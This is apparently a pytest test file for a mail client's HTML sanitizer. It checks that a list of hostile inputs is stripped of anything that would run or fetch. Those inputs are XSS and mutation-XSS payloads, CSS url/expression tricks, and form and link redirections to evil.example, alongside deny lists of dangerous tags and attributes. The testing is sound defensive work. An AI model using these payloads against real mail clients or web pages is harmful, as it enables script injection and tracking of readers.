"""A mail's HTML for the browser: what is harmless, and nothing else."""

import random
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tuimail.mime.clean_page import MAX_PICTURES_BYTES, POLICY, clean_page, plain_page

_PNG = b"\x89PNG\r\n\x1a\nxx"
_ALLOWED_IN_HEAD = {"html", "head", "meta", "title", "body"}
_NEVER = {
    "script", "style", "link", "meta", "base", "form", "iframe", "frame", "object", "embed", "svg",
    "math", "template", "noscript", "video", "audio", "source", "input", "button", "title", "xmp",
    "plaintext", "textarea", "select", "applet", "canvas", "map", "area", "portal", "dialog",
}  # fmt: skip
_STRUCTURE = re.compile(r"(?i)url\s*\(|expression|@import|javascript:|\\")


class Found(HTMLParser):
    """Reads a page as a browser might, and notes what would run or be fetched."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.links: list[str] = []
        self.pictures = 0

    def handle_starttag(self, tag, attrs):
        if tag in _NEVER:
            self.bad.append(tag)
        for name, value in attrs:
            text = value or ""
            if name == "href" and tag == "a":
                self.links.append(text)
                if not text.startswith(("http://", "https://", "mailto:")):
                    self.bad.append(text)
            elif name == "src":
                self.pictures += 1
                if tag != "img" or not text.startswith("data:image/png;base64,"):
                    self.bad.append(text)
            elif name == "style":
                if _STRUCTURE.search(text):
                    self.bad.append(text)
            elif name.startswith("on") or name in {
                "background", "srcset", "srcdoc", "poster", "action", "formaction", "data", "ping",
                "href", "xlink:href", "cite", "longdesc", "usemap", "id", "class", "name", "is",
            }:  # fmt: skip
                self.bad.append(name)


def read(page: bytes) -> Found:
    """Read what comes behind the head, which is ours."""
    head, _, body = page.decode().partition("<body>")
    assert POLICY in head
    assert set(re.findall(r"<([a-z]+)", head)) <= _ALLOWED_IN_HEAD
    found = Found()
    found.feed(body)
    found.close()
    return found


def page(html: str) -> bytes:
    return clean_page(html, "t", {"a@b": ("image/png", _PNG)}.get)


HOSTILE = [
    "<script>fetch('//evil.example')</script>",
    "<img src=https://evil.example/p.gif alt=hi>",
    "<img src='cid:a@b' onerror=alert(1) srcset='//evil.example/x 2x'>",
    "<p style='background:url(//evil.example/x)'>x",
    "<p style='background:\\75 rl(//evil.example/x)'>x",
    "<p style='width:expression(alert(1));color:red'>x",
    "<p style=\"background:image-set('//evil.example/x' 1x)\">x",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<form action=//evil.example><input name=x><button formaction=//evil.example>go</button></form>",
    "<a href='javascript:alert(1)'>x</a><a href='data:text/html,x'>y</a><a href=file:///etc>z</a>",
    "<a href=https://good.example/x ping=//evil.example target=_blank>x</a>",
    "<svg><script>alert(1)</script><image href=//evil.example/x></svg>",
    "<svg><style><img src=//evil.example/x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=//evil.example></template>",
    "<iframe srcdoc='<script>x</script>' src=//evil.example></iframe>",
    "<video src=//evil.example poster=//evil.example><source src=//evil.example></video>",
    "<object data=//evil.example><embed src=//evil.example></object>",
    "<body background=//evil.example/x onload=alert(1)><table background=//evil.example>",
    "<style>@import '//evil.example';p{background:url(//evil.example)}</style>",
    "<!--[if mso]><img src=//evil.example><![endif]-->",
    "<img src='x-cid:a@b'><img src='CID:A@B'><img src=' cid:a@b'>",
    "<x-img src=//evil.example><x-script>alert(1)</x-script>",
    "<p title='\"><script>alert(1)</script>'>x",
    "<img alt='\"><script>alert(1)</script>' src=//evil.example>",
    "<blockquote cite=//evil.example>x</blockquote><q cite=//evil.example>x</q>",
    "<plaintext><img src=//evil.example>",
    "<textarea></textarea><img src=//evil.example></textarea>",
    "<title><img src=//evil.example></title>",
    "<a href='https://ev\til.example/' style='position:fixed;top:0'>x</a>",
    "<isindex action=//evil.example><keygen autofocus onfocus=alert(1)>",
    "<td background=//evil.example width='1\" onx=1'>",
    "<font face='x;\" onload=\"alert(1)' color=red>x</font>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_or_fetches_comes_through(html):
    assert read(page(html)).bad == []


def test_what_a_mail_says_comes_through_as_it_looks():
    html = (
        "<div style='color: red; font-family: \"Arial\", sans-serif'><b>Hello</b> &lt;you&gt;"
        "<table width=600><tr><td bgcolor=#ffffff colspan=2>1 &amp; 2</td></tr></table><br>"
        "<a href='https://good.example/a?b=1&amp;c=2'>here</a>"
    )
    body = page(html).decode().partition("<body>\n")[2]
    assert body.startswith(
        '<div style="color: red; font-family: &quot;Arial&quot;, sans-serif"><b>Hello</b> '
        '&lt;you&gt;<table width="600"><tbody><tr><td bgcolor="#ffffff" colspan="2">1 &amp; 2</td>'
    )
    assert '<a href="https://good.example/a?b=1&amp;c=2" rel="noopener noreferrer">here</a>' in body


def test_pictures_of_the_mail_are_in_the_page_and_words_stand_for_others():
    found = page(
        "<img src=cid:a@b width=10><img src=https://evil.example/x alt='A cat'><img src=x>"
    )
    assert read(found).pictures == 1
    assert b"[A cat]" in found
    assert b"evil" not in found


def test_pictures_beyond_the_bound_are_left_out():
    half = b"x" * (MAX_PICTURES_BYTES // 2 + 1)
    found = clean_page("<img src=cid:a><img src=cid:b>", "", lambda _: ("image/png", half))
    assert read(found).pictures == 1


def test_plain_text_is_text():
    found = plain_page("<script>alert(1)</script>\n1 < 2", "<b>")
    assert read(found).bad == []
    assert b"&lt;script&gt;" in found
    assert b"<title>&lt;b&gt;</title>" in found


def test_a_thousand_pages_hold_no_reference_to_anywhere():
    chosen = random.Random(6)
    for _ in range(1_000):
        parts = [chosen.choice(HOSTILE) for _ in range(chosen.randint(1, 8))]
        html = "".join(parts)
        if chosen.random() < 0.5:  # cut and joined anywhere, as no one would write it
            at = chosen.randrange(len(html))
            html = html[at:] + html[:at] + chosen.choice("<>\"'=/&!-") + html
        assert read(page(html)).bad == []


@given(st.text(alphabet="<>/\"'= asrcimgtyle:(){};!-&#x0\\", max_size=300))
def test_no_text_whatever_becomes_what_runs(html):
    assert read(page(html)).bad == []


def test_a_page_nested_deep_or_of_many_attributes_is_written_in_time():
    for html in ("<div>" * 200_000, "<b><p>" * 50_000, "<p " + "a=b " * 100_000, "<td>" * 100_000):
        assert read(page(html)).bad == []
